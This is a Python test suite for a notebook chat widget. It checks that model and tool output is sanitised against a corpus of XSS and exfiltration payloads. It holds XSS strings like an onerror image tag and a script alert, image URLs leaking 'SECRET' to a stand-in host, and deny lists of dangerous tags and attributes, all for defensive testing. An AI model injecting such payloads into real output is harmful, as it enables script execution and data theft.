"""Model and tool output is rendered sanitised everywhere the notebook shows it: the corpus of known XSS and
exfiltration payloads (``tests/xss_corpus.json``, shared with the panel's tests) through the one sanitiser, and
through every place of the ``%eca`` widget and the plain fallback that shows model or tool text."""

from __future__ import annotations

import json
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from eca_notebook.notebook._untrusted import image_host, safe_html, safe_markdown_html

CORPUS = json.loads((Path(__file__).resolve().parents[1] / "xss_corpus.json").read_text())
EVIL = "evil.example"

# what the sanitised HTML may hold at all: nothing that runs, fetches, submits or embeds
SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}
SAFE_ATTRIBUTES = {"href", "title", "alt", "src", "width", "height", "class", "target", "rel", "referrerpolicy",
                   "align", "colspan", "rowspan", "start", "open"}


def payloads(hit: str = f"https://{EVIL}/hit") -> list[tuple[str, str]]:
    out = []
    for entry in CORPUS["payloads"]:
        url = f"{hit}/{entry['name']}"
        out.append((entry["name"], entry["markdown"].replace("{{HIT}}", url)
                    .replace("{{HIT_PR}}", url.split(":", 1)[1])))
    return out


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


# never in model output, whatever else the widget's own markup holds
DANGEROUS_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "svg", "math", "meta", "link", "base",
                  "form", "button", "input", "select", "textarea", "video", "audio", "source", "picture", "track",
                  "template", "noscript", "body", "html", "head", "applet", "portal"}
DANGEROUS_ATTRIBUTES = {"srcset", "srcdoc", "formaction", "action", "background", "poster", "data", "ping",
                        "http-equiv", "content", "autofocus", "data-commandlinker-command"}


def problems(html: str, own_markup: bool = False) -> list[str]:
    """What in ``html`` could run script, fetch without a click, submit, or leave through a link's scheme. With
    ``own_markup`` (a whole widget: its own classes, styles and data attributes around the model's text) only what
    is dangerous in itself is reported; else anything outside the sanitiser's allowlist."""
    found = []
    for tag, attrs in elements(html):
        if tag in DANGEROUS_TAGS or (tag not in SAFE_TAGS and not own_markup):
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            unknown = name not in SAFE_ATTRIBUTES and not own_markup
            if name.startswith("on") or name in DANGEROUS_ATTRIBUTES or unknown:
                found.append(f"<{tag} {name}=…>")
            if name == "style" and re.search(r"url|image|\\|@", value, re.I):
                found.append(f"<{tag} style={value!r}>")
            if name == "src" and not re.match(r"data:image/(png|jpe?g|gif|webp|bmp|avif);base64,", value):
                found.append(f"<{tag} src={value!r}>")
            if name == "href":
                scheme = re.sub(r"[\s\x00-\x1f]", "", unescape(value)).lower().split(":", 1)
                if len(scheme) == 2 and scheme[0] not in ("http", "https", "mailto") and "/" not in scheme[0]:
                    found.append(f"<{tag} href={value!r}>")
            if EVIL in value and name not in ("href", "title"):
                found.append(f"<{tag} {name}={value!r}> fetches")
        if tag == "a" and attrs.get("href") and "noopener" not in attrs.get("rel", ""):
            found.append("a link without rel=noopener")
    return found


@pytest.mark.parametrize(("name", "markdown"), payloads(), ids=[n for n, _ in payloads()])
def test_no_payload_survives_the_sanitiser(name: str, markdown: str):
    html = safe_markdown_html(markdown)
    assert problems(html) == [], html
    # between ordinary text too (a payload in the middle of an answer)
    assert problems(safe_markdown_html(f"Intro **text**\n\n{markdown}\n\nAfter.")) == []


def test_the_corpus_is_dangerous_without_it():
    """The corpus is no straw man: the markdown renderer alone (what the widget's front-end did with the answer's
    ``text/markdown``) lets most payloads through."""
    from markdown_it import MarkdownIt

    unsafe = MarkdownIt("commonmark", {"html": True})
    leaked = [name for name, markdown in payloads() if problems(unsafe.render(markdown))]
    assert len(leaked) >= 40, leaked


def test_remote_images_become_links_naming_their_host():
    html = safe_markdown_html(f"![chart](https://{EVIL}/x.png?q=SECRET) and ![b][r]\n\n[r]: //cdn.{EVIL}/y.png")
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [a["href"] for a in links] == [f"https://{EVIL}/x.png?q=SECRET", f"//cdn.{EVIL}/y.png"]
    assert all(a["class"] == "eca-remote-image" and a["target"] == "_blank" for a in links)
    assert f"Image from {EVIL}: chart" in html and f"Image from cdn.{EVIL}: b" in html
    assert not [tag for tag, _ in elements(html) if tag == "img"], "nothing is fetched before a click"
    assert image_host("figures/plot.png") == "this server"


def test_inline_raster_images_stay_and_svg_does_not():
    png = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
           "AAAABJRU5ErkJggg==")
    html = safe_markdown_html(f"![dot]({png})")
    assert [(tag, attrs.get("src")) for tag, attrs in elements(html)] == [("p", None), ("img", png)]
    assert "src" not in safe_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')


def test_normal_markdown_still_renders():
    html = safe_markdown_html(CORPUS["benign"])
    assert "<strong>bold text</strong>" in html
    assert "<li>first item</li>" in html and "<li>second item</li>" in html
    assert '<pre class="eca-code"><code' in html and '<span class="k">def</span>' in html, html
    link = next(attrs for tag, attrs in elements(html) if tag == "a")
    assert link["href"] == "https://example.org/docs" and link["rel"] == "noopener noreferrer nofollow"
    assert link["referrerpolicy"] == "no-referrer"


def test_code_keeps_markup_as_text():
    html = safe_markdown_html("`<img src=x onerror=alert(1)>`\n\n```\n<script>alert(1)</script>\n```")
    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# -- every place the widget and the fallback show model or tool text ---------------------------------------------------


def _all_html(widget: Any) -> str:
    """Everything a widget tree sends to the page as markup: HTML values, Output bundles' HTML/markdown, titles."""
    parts = []
    value = getattr(widget, "value", None)
    if isinstance(value, str) and type(widget).__name__ in ("HTML", "HTMLMath"):
        parts.append(value)
    for output in getattr(widget, "outputs", ()) or ():
        data = output.get("data", {})
        assert "text/markdown" not in data, "markdown in a trusted Output reaches the page unsanitised"
        parts.append(data.get("text/html", ""))
    for child in getattr(widget, "children", ()) or ():
        parts.append(_all_html(child))
    return "\n".join(parts)


def test_every_place_of_the_widget_shows_the_corpus_safely():
    pytest.importorskip("ipywidgets")
    from eca_notebook.notebook.widgets import ChatView

    chat = "chat-1"
    view = ChatView(None, interval=0)
    view.begin_turn(chat, "hi")
    for index, (name, markdown) in enumerate(payloads()):
        def content(c: dict[str, Any], role: str = "assistant", chat_id: str = chat) -> None:
            view.handle("chat/contentReceived", {"chatId": chat_id, "role": role, "content": c})

        call = f"call-{index}"
        content({"type": "text", "text": markdown})
        content({"type": "reasonStarted", "id": f"r{index}"})
        content({"type": "reasonText", "id": f"r{index}", "text": markdown})
        content({"type": "toolCallRun", "origin": "native", "id": call, "name": "shell_command", "server": "eca",
                 "arguments": {"command": markdown}, "summary": markdown, "manualApproval": False})
        content({"type": "toolCalled", "origin": "native", "id": call, "name": "shell_command", "server": "eca",
                 "arguments": {}, "error": index % 2 == 0, "outputs": [{"type": "text", "text": markdown}]})
        spawn = f"spawn-{index}"
        content({"type": "toolCallRunning", "origin": "native", "id": spawn, "name": "spawn_agent", "server": "eca",
                 "arguments": {"activity": markdown},
                 "details": {"type": "subagent", "subagentChatId": f"sub-{index}", "agentName": name}})
        view.handle("chat/contentReceived", {"chatId": f"sub-{index}", "parentChatId": chat, "role": "assistant",
                                             "content": {"type": "text", "text": markdown}})
        content({"type": "plan", "explanation": markdown, "steps": [
            {"description": markdown, "status": "in_progress", "files": [markdown]}]})
        view.note(markdown, error=True)
        view.ask({"question": markdown, "options": [{"label": name, "description": markdown}]}, lambda _a: None)
    view.finish()
    view._flush()
    assert view.style in view.widget.children  # the widget's own style block, not model output
    shown = "\n".join(_all_html(child) for child in view.widget.children if child is not view.style)
    assert "Image from evil.example" in shown and len(shown) > 10_000, "the corpus was drawn"
    assert problems(shown, own_markup=True) == [], problems(shown, own_markup=True)[:10]


def test_the_plain_fallback_and_listings_show_sanitised_html():
    from eca_notebook.notebook._fallback import MarkdownView

    bundles: list[dict[str, str]] = []
    view = MarkdownView(display=lambda bundle, raw: bundles.append(bundle))
    view.begin_turn("c", "hi")
    view.handle("chat/contentReceived", {"chatId": "c", "role": "assistant", "content": {
        "type": "text", "text": "\n\n".join(markdown for _, markdown in payloads())}})
    view.finish()
    (bundle,) = bundles
    assert set(bundle) == {"text/html", "text/plain"}, "no text/markdown: a kernel's output is trusted"
    assert problems(bundle["text/html"]) == [] and "Image from evil.example" in bundle["text/html"]


def test_a_long_streamed_answer_ends_fully_rendered():
    """Redraws of a costly answer are spaced out while it streams (see ChatView._render_text); the end of the turn
    draws all of it, sanitised."""
    pytest.importorskip("ipywidgets")
    from eca_notebook.notebook.widgets import ChatView

    view = ChatView(None, interval=0)
    view.begin_turn("c", "hi")
    chunk = "Some **text**, `code` and\n\n```python\ndef f(x):\n    return x * 2\n```\n\n- a\n- b\n\n"
    for _ in range(200):
        view.handle("chat/contentReceived", {"chatId": "c", "role": "assistant",
                                             "content": {"type": "text", "text": chunk}})
    view.handle("chat/contentReceived", {"chatId": "c", "role": "assistant",
                                         "content": {"type": "text", "text": "<img src=x onerror=alert(1)> The end."}})
    view.finish()
    (output,) = [w for w in view.blocks_box.children if hasattr(w, "outputs")]
    data = output.outputs[0]["data"]
    assert data["text/plain"] == view.text and data["text/plain"].endswith("The end.")
    assert data["text/html"] == safe_markdown_html(view.text) and data["text/html"].rstrip().endswith("The end.</p>")
    assert problems(data["text/html"]) == []


def test_tex_is_kept_for_mathjax():
    html = safe_markdown_html("Let $a_1 * b_2$ and $$x^2 < y$$ or \\(y_1 * z_2\\); costs $5 and $10, `$c_1 * x_2$`")
    assert "$a_1 * b_2$" in html and "$$x^2 &lt; y$$" in html and "\\(y_1 * z_2\\)" in html, html
    assert "costs $5 and $10, <code>$c_1 * x_2$</code>" in html, html
